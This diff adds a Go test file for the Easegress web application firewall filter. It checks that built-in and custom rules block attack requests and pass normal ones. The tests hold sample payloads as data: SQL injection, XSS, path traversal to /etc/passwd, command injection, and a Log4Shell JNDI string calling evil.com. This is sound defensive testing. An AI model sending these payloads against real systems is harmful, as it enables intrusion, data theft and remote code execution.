@@ -0,0 +1,397 @@
+/*
+ * Copyright (c) 2017, MegaEase
+ * All rights reserved.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package waf
+
+import (
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/megaease/easegress/pkg/context"
+	"github.com/megaease/easegress/pkg/logger"
+	"github.com/megaease/easegress/pkg/object/httppipeline"
+	"github.com/megaease/easegress/pkg/object/httppipeline/httppipelinetest"
+	"github.com/megaease/easegress/pkg/util/yamltool"
+)
+
+func TestMain(m *testing.M) {
+	logger.InitNop()
+	code := m.Run()
+	os.Exit(code)
+}
+
+func do(w *WAF, req *http.Request) (string, string) {
+	var body string
+	result, _ := httppipelinetest.Handle(w, req, func(ctx context.HTTPContext, lastResult string) string {
+		buf, _ := io.ReadAll(ctx.Request().Body())
+		body = string(buf)
+		return lastResult
+	})
+	return result, body
+}
+
+func get(w *WAF, target string) string {
+	result, _ := do(w, httptest.NewRequest(http.MethodGet, target, nil))
+	return result
+}
+
+func TestBuiltinRules(t *testing.T) {
+	w := httppipelinetest.InitFilter(t, &WAF{}, `
+kind: WAF
+name: waf
+ruleSets:
+- name: crs
+  builtin: [sqli, xss, lfi, rce, scanner]
+`).(*WAF)
+	defer w.Close()
+
+	attacks := []string{
+		"/?id=1%20UNION%20SELECT%20password%20FROM%20users",
+		"/?id=1'%20or%20'1'='1",
+		"/?id=1%20or%201=1",
+		"/?name=admin'--",
+		"/?id=1;%20DROP%20TABLE%20users",
+		"/?id=sleep(5)",
+		"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+		"/?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
+		"/?url=javascript:alert(1)",
+		"/?q=%26lt;script%26gt;alert(1)",
+		"/?file=../../etc/passwd",
+		"/static/..%2f..%2fetc/passwd",
+		"/?host=127.0.0.1;cat%20/etc/hosts",
+		"/?x=$(whoami)",
+		"/?x=$%7Bjndi:ldap://evil.com/a%7D",
+		"/?%3Cscript%3E=1",
+	}
+	for _, target := range attacks {
+		if result := get(w, target); result != resultBlocked {
+			t.Errorf("%s should be blocked", target)
+		}
+	}
+
+	normal := []string{
+		"/",
+		"/?id=123&name=john",
+		"/?q=select%20a%20union%20member",
+		"/?q=rock%20and%20roll",
+		"/?email=john@example.com",
+		"/?q=it's%20fine",
+		"/docs/guide.html",
+	}
+	for _, target := range normal {
+		if result := get(w, target); result != "" {
+			t.Errorf("%s should not be blocked", target)
+		}
+	}
+
+	req := httptest.NewRequest(http.MethodGet, "/", nil)
+	req.Header.Set("User-Agent", "sqlmap/1.5")
+	if result, _ := do(w, req); result != resultBlocked {
+		t.Error("scanner should be blocked")
+	}
+
+	req = httptest.NewRequest(http.MethodGet, "/", nil)
+	req.AddCookie(&http.Cookie{Name: "session", Value: "1' or '1'='1"})
+	if result, _ := do(w, req); result != resultBlocked {
+		t.Error("attack in cookie should be blocked")
+	}
+
+	s := w.Status().(*Status)
+	if s.Blocked != uint64(len(attacks)+2) || s.Requests != uint64(len(attacks)+len(normal)+2) {
+		t.Errorf("unexpected status %+v", s)
+	}
+	if s.RuleHits[913100] != 1 {
+		t.Errorf("rule 913100 should be hit once, got %d", s.RuleHits[913100])
+	}
+}
+
+func TestBody(t *testing.T) {
+	w := httppipelinetest.InitFilter(t, &WAF{}, `
+kind: WAF
+name: waf
+ruleSets:
+- name: crs
+  builtin: [sqli, xss]
+`).(*WAF)
+	defer w.Close()
+
+	form := url.Values{"comment": {"<script>alert(1)</script>"}}.Encode()
+	req := httptest.NewRequest(http.MethodPost, "/", strings.NewReader(form))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	if result, _ := do(w, req); result != resultBlocked {
+		t.Error("attack in form should be blocked")
+	}
+
+	req = httptest.NewRequest(http.MethodPost, "/", strings.NewReader(`{"user": {"name": "x' UNION SELECT 1 --"}}`))
+	req.Header.Set("Content-Type", "application/json")
+	if result, _ := do(w, req); result != resultBlocked {
+		t.Error("attack in json should be blocked")
+	}
+
+	body := `{"user": {"name": "john"}}`
+	req = httptest.NewRequest(http.MethodPost, "/", strings.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	result, got := do(w, req)
+	if result != "" {
+		t.Error("normal json should not be blocked")
+	}
+	if got != body {
+		t.Errorf("body should be kept for the following filters, got %q", got)
+	}
+}
+
+func TestCustomRules(t *testing.T) {
+	w := httppipelinetest.InitFilter(t, &WAF{}, `
+kind: WAF
+name: waf
+anomalyThreshold: 6
+ruleSets:
+- name: custom
+  rules:
+  - id: 100
+    msg: admin from outside
+    variables: [REQUEST_FILENAME]
+    operator: "@beginsWith /admin"
+    action: deny
+  - id: 101
+    variables: [REQUEST_HEADERS:X-Debug]
+    operator: "@streq on"
+    severity: warning
+  - id: 102
+    variables: [ARGS_GET:token]
+    operator: "!@rx ^[a-f0-9]*$"
+    transforms: [lowercase]
+    severity: warning
+  - id: 103
+    variables: [REQUEST_METHOD]
+    operator: "@within PUT DELETE"
+    severity: notice
+`).(*WAF)
+	defer w.Close()
+
+	if get(w, "/admin/users") != resultBlocked {
+		t.Error("deny rule should block at once")
+	}
+	if get(w, "/?token=ABCDEF") != "" {
+		t.Error("score 0 should not be blocked")
+	}
+	if get(w, "/?token=xyz") != "" {
+		t.Error("score 3 should not be blocked")
+	}
+
+	req := httptest.NewRequest(http.MethodGet, "/?token=xyz", nil)
+	req.Header.Set("X-Debug", "on")
+	if result, _ := do(w, req); result != resultBlocked {
+		t.Error("score 6 should be blocked")
+	}
+
+	req = httptest.NewRequest(http.MethodDelete, "/?token=xyz", nil)
+	if result, _ := do(w, req); result != "" {
+		t.Error("score 5 should not be blocked")
+	}
+}
+
+func TestRoutesAndDetectMode(t *testing.T) {
+	w := httppipelinetest.InitFilter(t, &WAF{}, `
+kind: WAF
+name: waf
+mode: detect
+ruleSets:
+- name: sqli
+  builtin: [sqli]
+- name: xss
+  builtin: [xss]
+  disabledRules: [941160]
+defaultRuleSets: [sqli]
+routes:
+- pathPrefix: /cms
+  ruleSets: [xss]
+- path: /raw
+  methods: [POST]
+`).(*WAF)
+	defer w.Close()
+
+	if get(w, "/?q=%3Cscript%3E") != "" || get(w, "/?q=1%20union%20select%202") != "" {
+		t.Error("requests should not be blocked in detect mode")
+	}
+	s := w.Status().(*Status)
+	if s.Detected != 1 || s.Blocked != 0 {
+		t.Errorf("only sqli should be detected by default, got %+v", s)
+	}
+
+	w.spec.Mode = modeBlock
+	if get(w, "/cms?q=%3Cscript%3E") != resultBlocked {
+		t.Error("xss should be blocked on /cms")
+	}
+	if get(w, "/cms?q=1%20union%20select%202") != "" {
+		t.Error("sqli should not be checked on /cms")
+	}
+	if get(w, "/cms?q=%3Ciframe%20src=x%3E") != "" {
+		t.Error("disabled rule should not be checked")
+	}
+
+	req := httptest.NewRequest(http.MethodPost, "/raw?q=1%20union%20select%202", nil)
+	if result, _ := do(w, req); result != "" {
+		t.Error("no rules should be checked on POST /raw")
+	}
+	if get(w, "/raw?q=1%20union%20select%202") != resultBlocked {
+		t.Error("default rules should be checked on GET /raw")
+	}
+}
+
+func TestSpecValidate(t *testing.T) {
+	cases := []string{
+		`
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  builtin: [sqli]
+- name: a
+  builtin: [xss]
+`, `
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  builtin: [unknown]
+`, `
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  builtin: [sqli]
+defaultRuleSets: [b]
+`, `
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  rules:
+  - id: 1
+    variables: [ARGS]
+    operator: "@rx ("
+`, `
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  rules:
+  - id: 1
+    variables: [UNKNOWN]
+    operator: foo
+`, `
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  rules:
+  - id: 1
+    variables: [ARGS]
+    operator: "@unknown foo"
+`, `
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  rules:
+  - id: 1
+    variables: [ARGS]
+    operator: foo
+    transforms: [unknown]
+`, `
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  builtin: [sqli]
+  rules:
+  - id: 942100
+    variables: [ARGS]
+    operator: foo
+`, `
+kind: WAF
+name: waf
+ruleSets:
+- name: a
+  builtin: [sqli]
+routes:
+- path: /a
+  pathPrefix: /a
+`,
+	}
+
+	for i, c := range cases {
+		rawSpec := make(map[string]interface{})
+		yamltool.Unmarshal([]byte(c), &rawSpec)
+		if _, err := httppipeline.NewFilterSpec(rawSpec, nil); err == nil {
+			t.Errorf("case %d: spec should be invalid", i)
+		}
+	}
+}
+
+func TestOperators(t *testing.T) {
+	cases := []struct {
+		operator string
+		value    string
+		match    bool
+	}{
+		{`^\d+$`, "123", true},
+		{"@pm foo bar", "xBARx", true},
+		{"@pm foo bar", "baz", false},
+		{"@contains oo", "foo", true},
+		{"!@contains oo", "foo", false},
+		{"@endsWith .php", "index.php", true},
+		{"@ipMatch 10.0.0.0/8,192.168.1.1", "10.1.2.3", true},
+		{"@ipMatch 10.0.0.0/8,192.168.1.1", "192.168.1.1", true},
+		{"@ipMatch 10.0.0.0/8,192.168.1.1", "192.168.1.2", false},
+	}
+	for _, c := range cases {
+		op, negate, err := parseOperator(c.operator)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if op(c.value) != negate != c.match {
+			t.Errorf("%s on %s should be %v", c.operator, c.value, c.match)
+		}
+	}
+}
+
+func TestTransforms(t *testing.T) {
+	cases := []struct {
+		name  string
+		value string
+		want  string
+	}{
+		{"urlDecodeUni", "%3Cscript%3E+x", "<script> x"},
+		{"htmlEntityDecode", "&lt;a&gt;", "<a>"},
+		{"replaceComments", "UNION/**/SELECT", "UNION SELECT"},
+		{"normalizePath", "/a/./b/../c", "/a/c"},
+		{"removeNulls", "a\x00b", "ab"},
+		{"base64Decode", "YWJj", "abc"},
+	}
+	for _, c := range cases {
+		if got := transforms[c.name](c.value); got != c.want {
+			t.Errorf("%s of %q should be %q, got %q", c.name, c.value, c.want, got)
+		}
+	}
+}